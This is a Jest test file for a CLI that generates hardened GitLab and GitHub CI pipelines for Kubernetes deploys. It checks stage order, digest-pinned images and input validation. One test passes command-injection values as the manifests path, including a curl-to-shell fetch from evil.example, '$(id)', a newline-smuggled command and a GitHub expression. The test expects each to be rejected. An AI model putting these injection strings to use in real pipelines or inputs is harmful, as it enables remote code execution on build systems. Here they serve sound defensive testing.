import { parse } from 'yaml';
import { CliIo } from '../../lib/cli/io';
import { run } from '../../lib/cli/main';
import { CI_GATE_STAGES } from '../../lib/core/ci-gate';

/** Runs the CLI with in-memory streams. */
async function cli(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: CliIo = { cwd: process.cwd(), stdout: (t) => { stdout += t; }, stderr: (t) => { stderr += t; }, readStdin: async () => '' };
  const code = await run(argv, io);
  return { code, stdout, stderr };
}

describe('kube-harden ci-gate', () => {
  test('--ci gitlab prints a pipeline whose stages are the gate, in order', async () => {
    const result = await cli(['ci-gate', '--ci', 'gitlab', '--release-image', 'registry.example.cn/pay/api']);
    expect(result.code).toBe(0);
    const pipeline = parse(result.stdout);
    expect(pipeline.stages).toEqual([...CI_GATE_STAGES]);
    expect(pipeline.variables.RELEASE_IMAGE).toBe('registry.example.cn/pay/api');
    expect(pipeline.push.script.join('\n')).toContain('"$RELEASE_IMAGE"');
  });

  test('--ci github prints a workflow with one job per gate stage', async () => {
    const result = await cli(['ci-gate', '--ci', 'github']);
    expect(Object.keys(parse(result.stdout).jobs)).toEqual([...CI_GATE_STAGES]);
  });

  test('an unknown CI system or a bad repository is a usage error (exit 2)', async () => {
    expect((await cli(['ci-gate', '--ci', 'jenkins'])).code).toBe(2);
    const bad = await cli(['ci-gate', '--ci', 'github', '--release-image', 'Not A Repo']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/releaseImage: is not a repository/);
  });

  test('--kubectl-image sets the deploy step image; an image without a digest is a usage error', async () => {
    const image = `registry.k8s.io/kubectl:v1.31.4@sha256:${'c'.repeat(64)}`;
    const result = await cli(['ci-gate', '--ci', 'gitlab', '--kubectl-image', image]);
    expect(result.code).toBe(0);
    expect(parse(result.stdout).variables.KUBECTL_IMAGE).toBe(image);
    const unpinned = await cli(['ci-gate', '--ci', 'gitlab', '--kubectl-image', 'registry.k8s.io/kubectl:v1.31.4']);
    expect(unpinned.code).toBe(2);
    expect(unpinned.stderr).toMatch(/kubectlImage: is not pinned by digest/);
  });

  test.each([
    ['github', 'dist; curl https://evil.example/x | sh #'],
    ['gitlab', 'dist; curl https://evil.example/x | sh #'],
    ['github', '$(id)'],
    ['gitlab', 'dist\nid'],
    ['github', '${{ github.event.head_commit.message }}'],
  ])('--ci %s --manifests %j: exit 2, nothing printed, the field named with the value escaped', async (ci, manifests) => {
    const result = await cli(['ci-gate', '--ci', ci, '--manifests', manifests]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/manifestsDir: is not a relative path of safe characters/);
    expect(result.stderr).toContain(JSON.stringify(manifests));
  });

  test('a valid --manifests reaches the pipeline as a variable, quoted in the scripts', async () => {
    const result = await cli(['ci-gate', '--ci', 'github', '--manifests', 'deploy/k8s/']);
    const workflow = parse(result.stdout);
    expect(workflow.env.MANIFESTS_DIR).toBe('deploy/k8s');
    expect(workflow.jobs.deploy.steps.at(-1).run).toContain('kustomize "$MANIFESTS_DIR" > deploy.yaml');
  });
});
